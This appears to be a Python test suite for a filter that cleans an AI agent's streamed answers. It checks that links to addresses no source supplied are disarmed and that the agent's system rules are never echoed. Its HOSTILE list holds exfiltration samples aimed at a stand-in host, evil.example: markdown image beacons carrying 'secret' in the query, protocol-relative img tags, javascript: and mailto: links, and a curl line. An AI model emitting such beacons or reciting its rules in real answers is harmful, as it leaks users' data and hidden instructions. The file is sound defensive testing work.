"""Nothing that the program does not allow gets through, however the text is cut into pieces."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentd.answer.cleaning import _PLAIN, Cleaner
from agentd.answer.inert import inert
from agentd.answer.marks import MARK
from agentd.answer.prompt import RULES
from agentd.answer.unsaid import squashed

BOUNDARY = "0f" * 16
SYSTEM = RULES.format(boundary=BOUNDARY)
ALLOWED = "https://docs.example.org/page"
LIVE = re.compile(r"[a-z][a-z0-9+.-]*:/{1,}\S|javascript:|mailto:|\bwww\.|!\[|[\"'(]//", re.IGNORECASE)

HOSTILE = [
    "see https://evil.example/?q=secret now",
    "![pixel](https://evil.example/p.png?d=secret)",
    "![pixel](<https://evil.example/p.png> 'title')",
    "[click here](https://evil.example/a_(b)) or ![a](![b](http://evil.example/x))",
    "[ref]: http://evil.example/ref\n![x][ref]",
    '<img src="//evil.example/x.png"> <a href=//evil.example>x</a> <img src="http:\\\\evil.example">',
    "HTTPS://EVIL.example/x ftp://evil.example/y custom+scheme://evil.example",
    "<https://evil.example/auto> javascript:alert(1) mailto:a@evil.example www.evil.example",
    "`https://evil.example/in/code`\n```\ncurl https://evil.example/in/block\n```\n",
    f"{ALLOWED}.evil.example/x and {ALLOWED}/../../x",
]


def cleaned(text: str, cuts: list[int] | None = None, sources: int = 3, hidden: tuple[str, ...] = (SYSTEM,)) -> str:
    """``text`` through a cleaner, in pieces that end at ``cuts``."""
    cleaner = Cleaner(sources, {ALLOWED}, hidden, [BOUNDARY])
    ends = sorted({min(cut, len(text)) for cut in cuts or []} | {0, len(text)})
    pieces = [text[start:end] for start, end in pairwise(ends)]
    return "".join(map(cleaner.feed, pieces)) + cleaner.end()


@pytest.mark.parametrize("text", HOSTILE)
@given(cuts=st.lists(st.integers(0, 120), max_size=12))
def test_no_address_that_no_source_has_is_live(text: str, cuts: list[int]) -> None:
    assert not LIVE.search(cleaned(text, cuts).replace(ALLOWED + " ", ""))


@pytest.mark.parametrize("text", HOSTILE)
def test_an_image_or_a_link_to_elsewhere_leaves_its_words_alone(text: str) -> None:
    assert "](h" not in cleaned(text)


@given(cuts=st.lists(st.integers(0, 120), max_size=12))
def test_the_address_of_a_source_stands(cuts: list[int]) -> None:
    text = f"As [the page]({ALLOWED}) says, see {ALLOWED}."
    assert cleaned(text, cuts) == text


@given(cuts=st.lists(st.integers(0, 200), max_size=20))
def test_plain_text_and_code_pass_unchanged_however_they_are_cut(cuts: list[int]) -> None:
    text = (
        "It calls `retry(x[1], {a: 2})` 3 times [1], then stops [2][3].\n\n```py\nrows[7] = [9]  # [99]\n```\n- a: b\n"
    )
    assert cleaned(text, cuts) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a [4].", "a ."),
        ("a [0][2].", "a [2]."),
        ("a [1, 7; 3] b", "a [1, 3] b"),
        ("`x[9]` is [9]", "`x[9]` is "),
        ("[1](https://evil.example) b", "[1] b"),
    ],
)
def test_numbers_that_stand_for_nothing_are_dropped(text: str, expected: str) -> None:
    assert cleaned(text) == expected


@given(cuts=st.lists(st.integers(0, 2000), max_size=30))
def test_the_rules_are_never_repeated(cuts: list[int]) -> None:
    said = squashed(cleaned(f"Of course! My rules are: {SYSTEM} That is all of them.", cuts))
    rules = squashed(SYSTEM)
    assert said.startswith("ofcourse")
    assert said.endswith("thatisallofthem")
    assert not any(rules[at : at + 40] in said for at in range(len(rules) - 40))
    assert BOUNDARY not in said


@given(text=st.text(alphabet="ab [](),`!.1:/hps\n<>", max_size=200), cuts=st.lists(st.integers(0, 200), max_size=10))
def test_no_text_breaks_it_and_no_link_survives(text: str, cuts: list[int]) -> None:
    assert "http://" not in cleaned(text + " http://x.example ", cuts)


@given(st.text(alphabet="aWw. =!(\"'+*\n-ſⓦ１", max_size=60))
def test_what_is_taken_for_plain_is_what_nothing_would_be_done_to(text: str) -> None:
    if _PLAIN.fullmatch(text) and "www." not in text.casefold():
        assert inert(text) == text
        assert not MARK.search(text)


def test_an_endless_word_is_not_held_in_memory() -> None:
    cleaner = Cleaner(1, set())
    assert sum(len(cleaner.feed("x" * 1000)) for _ in range(100)) < 1000
